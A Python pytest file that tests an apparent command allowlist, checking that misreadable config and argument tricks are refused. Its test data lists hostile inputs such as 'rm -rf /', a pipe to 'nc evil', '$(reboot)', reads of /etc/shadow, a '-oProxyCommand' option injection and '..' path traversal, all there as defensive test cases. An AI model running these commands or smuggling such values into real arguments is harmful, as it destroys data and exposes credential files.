"""The allowlist's rules: config that could be misread is refused, and so is every argument that tries to slip past."""

from __future__ import annotations

import pytest
import voluptuous as vol
from support_actions import set_up

from roost.integrations.commands.actions import params_schema
from roost.integrations.commands.allowlist import CONFIG_SCHEMA, build_argv, check_args

SMART = {
    "name": "smart",
    "argv": ["/usr/sbin/smartctl", "-a", "{device}"],
    "args": {"device": {"type": "string", "pattern": "^/dev/sd[a-z]$"}},
}
# An argument whose pattern lets anything through, to show the rules that hold whatever the pattern says.
LOOSE = {
    "name": "echo",
    "argv": ["/bin/echo", "{text}"],
    "args": {"text": {"type": "string", "pattern": "(?s).*", "max_length": 100}},
}
COUNT = {
    "name": "head",
    "argv": ["/usr/bin/head", "-n", "{lines}", "{offset}", "/var/log/syslog"],
    "args": {"lines": {"type": "int", "min": 1, "max": 1000, "default": 10}, "offset": {"type": "int", "min": -100, "max": 100, "allow_dash": True}},
}


def commands(*entries):
    return CONFIG_SCHEMA({"allow": list(entries)})["allow"]


def schema(*entries):
    return params_schema(commands(*entries))


@pytest.mark.parametrize(
    "entry,why",
    [
        ({**SMART, "argv": ["/usr/sbin/smartctl", "--device={device}"]}, "whole argv element"),
        ({**SMART, "argv": ["/usr/sbin/smartctl", "-a", "/dev/{device}"]}, "whole argv element"),
        ({**SMART, "argv": ["smartctl", "-a", "{device}"]}, "absolute path"),
        ({**SMART, "argv": ["{device}", "-a"]}, "absolute path"),
        ({**SMART, "argv": ["/usr/sbin/smartctl", "-a", "{disk}"]}, "does not declare 'disk'"),
        ({**SMART, "argv": ["/usr/sbin/smartctl", "-a"]}, "never uses {device}"),
        ({**SMART, "argv": ["/usr/sbin/smartctl", "{device}", "{device}"]}, "once"),
        ({**SMART, "args": {"device": {"type": "string"}}}, "needs a pattern"),
        ({**SMART, "args": {"device": {"type": "string", "pattern": "[a-"}}}, "not a valid regular expression"),
        ({**SMART, "args": {"device": {"type": "float", "pattern": "x"}}}, "type must be"),
        ({**SMART, "args": {"device": {"type": "string", "pattern": "^/dev/sd[a-z]$", "default": "/dev/nvme0"}}}, "default"),
        ({**SMART, "argv": ["/usr/sbin/smartctl", "-a\n-x", "{device}"]}, "newline"),
        ({**SMART, "name": "Smart Disk"}, "command names"),
        ({**SMART, "timeout": "2h"}, "between"),
        ({**SMART, "max_output": 10 * 1024 * 1024}, "between"),
        ({**SMART, "shell": True}, "extra keys"),
    ],
)
def test_config_that_could_be_misread_is_refused(entry, why):
    with pytest.raises(vol.Invalid, match=why):
        commands(entry)


def test_a_command_listed_twice_is_refused():
    with pytest.raises(vol.Invalid, match="listed twice"):
        commands(SMART, SMART)


async def test_a_bad_allowlist_puts_the_integration_in_setup_error_and_an_empty_one_makes_it_not_available(tmp_path):
    _, integ = await set_up("commands", {"allow": [{**SMART, "argv": ["/usr/sbin/smartctl", "--device={device}"]}]}, tmp_path)
    assert integ.state == "setup_error" and "whole argv element" in integ.reason and "allow" in integ.reason
    _, empty = await set_up("commands", {}, tmp_path)
    assert empty.state == "not_available" and "[[integrations.commands.allow]]" in empty.reason


def test_a_good_request_becomes_one_argv():
    params = schema(SMART)({"command": "smart", "args": {"device": "/dev/sda"}})
    assert params == {"command": "smart", "args": {"device": "/dev/sda"}}
    assert build_argv(commands(SMART)["smart"], params["args"]) == ["/usr/sbin/smartctl", "-a", "/dev/sda"]
    head = commands(COUNT)["head"]
    assert build_argv(head, check_args(head, {"offset": "-5"})) == ["/usr/bin/head", "-n", "10", "-5", "/var/log/syslog"]


SLIPS = [
    # shell metacharacters: refused by a strict pattern (and inert anyway: there is no shell)
    ("smart", {"device": "/dev/sda; rm -rf /"}, "does not match"),
    ("smart", {"device": "/dev/sda | nc evil 1"}, "does not match"),
    ("smart", {"device": "/dev/sda && reboot"}, "does not match"),
    ("smart", {"device": "$(reboot)"}, "does not match"),
    ("smart", {"device": "`reboot`"}, "does not match"),
    ("smart", {"device": "/dev/sda > /etc/passwd"}, "does not match"),
    ("smart", {"device": "< /etc/shadow"}, "does not match"),
    # option injection, whatever the pattern allows
    ("echo", {"text": "-oProxyCommand=touch /tmp/pwned"}, "may not start with '-'"),
    ("echo", {"text": "--help"}, "may not start with '-'"),
    ("echo", {"text": "-e"}, "may not start with '-'"),
    ("head", {"lines": -5, "offset": 0}, "at least 1"),
    # newlines, NUL, carriage returns, whatever the pattern allows
    ("echo", {"text": "ok\n--help"}, "newline"),
    ("echo", {"text": "ok\x00rm"}, "NUL"),
    ("echo", {"text": "ok\rno"}, "carriage return"),
    # paths that climb out
    ("echo", {"text": "../../etc/passwd"}, "'..' path segment"),
    ("echo", {"text": "/dev/../etc/shadow"}, "'..' path segment"),
    ("smart", {"device": "/dev/sda/../../etc/passwd"}, "'..' path segment"),
    # types, sizes, shapes
    ("echo", {"text": "x" * 101}, "longer than 100"),
    ("echo", {"text": ""}, "empty"),
    ("echo", {"text": 5}, "must be text"),
    ("echo", {"text": ["a", "b"]}, "must be text"),
    ("head", {"lines": True, "offset": 1}, "whole number"),
    ("head", {"lines": 2.5, "offset": 1}, "whole number"),
    ("head", {"lines": "5; reboot", "offset": 1}, "whole number"),
    ("head", {"lines": 5000, "offset": 1}, "at most 1000"),
    ("head", {"lines": 5}, "offset is required"),
    ("smart", {"device": "/dev/sda", "extra": "--scan"}, "no argument 'extra'"),
    ("smart", {}, "device is required"),
]


@pytest.mark.parametrize("command,args,why", SLIPS)
def test_every_slip_past_the_allowlist_is_refused(command, args, why):
    with pytest.raises(vol.Invalid, match=why):
        schema(SMART, LOOSE, COUNT)({"command": command, "args": args})


@pytest.mark.parametrize("request_", [{"command": "rm", "args": {}}, {"command": "/bin/sh"}, {"command": "smart; sh"}, {"args": {}}, {"command": "smart", "args": "-a /dev/sda"}])
def test_unknown_commands_and_malformed_requests_are_refused(request_):
    with pytest.raises(vol.Invalid):
        schema(SMART)(request_)


def test_choices_and_allow_dash():
    entry = {"name": "mode", "argv": ["/bin/echo", "{mode}"], "args": {"mode": {"type": "string", "choices": ["-v", "-q", "plain"], "allow_dash": True}}}
    command = commands(entry)["mode"]
    assert check_args(command, {"mode": "-v"}) == {"mode": "-v"}
    with pytest.raises(ValueError, match="one of"):
        check_args(command, {"mode": "-x"})
